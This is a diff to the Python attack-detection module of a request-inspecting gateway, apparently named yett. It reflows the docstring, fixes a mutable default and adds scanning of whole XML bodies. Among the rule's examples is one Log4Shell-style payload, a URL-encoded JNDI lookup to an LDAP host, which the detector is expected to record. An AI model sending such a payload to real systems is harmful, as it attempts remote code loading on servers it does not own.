@@ -1,14 +1,16 @@
 """Attacks: what attackers send in values, found by a small and precise set of rules that needs no download.
 
-SQL, script, template, expression, command and LDAP injection, path traversal, SSRF, XXE, deserialisation, prototype pollution and more
-in query, path, fields, cookies and bodies; secrets and stack traces in responses. Each value is looked at as it was read,
-and without disguise (escapes, entities, comments, NUL). Values that the contract proves (numbers, dates, UUIDs …) are left alone.
+SQL, script, template, expression, command and LDAP injection, path traversal, SSRF, XXE, deserialisation, prototype pollution
+and more in query, path, fields, cookies and bodies; secrets and stack traces in responses. Each value is looked at as it was
+read, and without disguise (escapes, entities, comments, NUL). Values that the contract proves (numbers, dates, UUIDs …) are
+left alone.
 
 It is on by default and only records: `yett log` and `yett explain` say rule, place and a masked sample. Once nothing honest is
 found any more, `attacks: {mode: enforce}` denies with 403 (and refuses responses with 502). `attacks: false` turns it off.
 
-To tune it: `rules: {sql-injection: monitor}` or `off` softens one rule, `except: [{rule: …, operation: …, place: …}]` lets one place pass;
-`yett explain` prints the entry to paste. `inspect` says how much of a body is read, and what becomes of one that is longer.
+To tune it: `rules: {sql-injection: monitor}` or `off` softens one rule, `except: [{rule: …, operation: …, place: …}]` lets one
+place pass; `yett explain` prints the entry to paste. `inspect` says how much of a body is read, and what becomes of one that is
+longer.
 
 What it does not protect against: attacks that look like honest values (another customer's id), those in formats that only the
 application reads, and what stands beyond the inspection limit.
@@ -36,6 +38,7 @@ from yett.formats.inspected import (
     response_values,
 )
 from yett.formats.inspected.head import FRAMING, USUAL
+from yett.formats.xml import XMLDocument
 from yett.model.decision import Check, Denial, Evaluation, Mode, Stage, Wait, unset
 from yett.model.exchange import View
 from yett.model.policy import Struct
@@ -66,7 +69,9 @@ RULE = Rule(
             policy="attacks: {mode: enforce, except: [{rule: sql-injection, place: body /comment}]}",
             note="the exception is for another rule",
         ),
-        Example(request=f"GET /orders?q=%24%7Bjndi:ldap://192.0.2.1/a%7D {_GET}", policy="mode: enforce", note="recorded by default"),
+        Example(
+            request=f"GET /orders?q=%24%7Bjndi:ldap://192.0.2.1/a%7D {_GET}", policy="mode: enforce", note="recorded by default"
+        ),
     ),
     passes=(
         Example(request=f'{_JSON}{{"comment": "select a plan from the list"}}', policy=_POLICY),
@@ -131,7 +136,7 @@ class Options(Struct, frozen=True, kw_only=True):
     """
 
     mode: Mode = Mode.MONITOR
-    rules: dict[str, Wish | bool] = {}
+    rules: dict[str, Wish | bool] = msgspec.field(default_factory=dict)
     exemptions: tuple[Exemption, ...] = msgspec.field(default=(), name="except")
     inspect: Inspect = Inspect()
     responses: bool = True
@@ -213,7 +218,7 @@ class Inspection:
             return None
         if len(content) <= AT_ONCE and evaluation.inspected is unset and not view.truncated:
             lines = _lines(view, content)
-            if lines is not None and not self.pack.look((lines,)):
+            if lines is not None and not self.pack.look((lines,), True):
                 return None
         return self._drive("attacks body", evaluation, lambda: self._request(view, evaluation))
 
@@ -246,6 +251,8 @@ class Inspection:
         for batch in values.batches():
             suspects.update(self.pack.look(batch))
             yield None
+        if isinstance(values.document, XMLDocument):
+            suspects.update(self.pack.look((values.content,)))  # markup is no value, and says more than they do
         findings: list[Finding] = []
         if suspects:
             yield from self._closely(values, suspects, findings)
@@ -267,7 +274,10 @@ class Inspection:
 
     def _closely(self, values: BodyValues, suspects: Collection[int], findings: list[Finding]) -> Iterator[None]:
         document = values.document if type(values.document) in (dict, list) else None
-        for found in self.pack.look_closely(values.values, document, suspects, self.counts):
+        every = values.values
+        if isinstance(values.document, XMLDocument):
+            every = [*every, Value(Origin.TEXT, b"", values.content)]
+        for found in self.pack.look_closely(every, document, suspects, self.counts):
             if found is None:
                 yield None
             else:
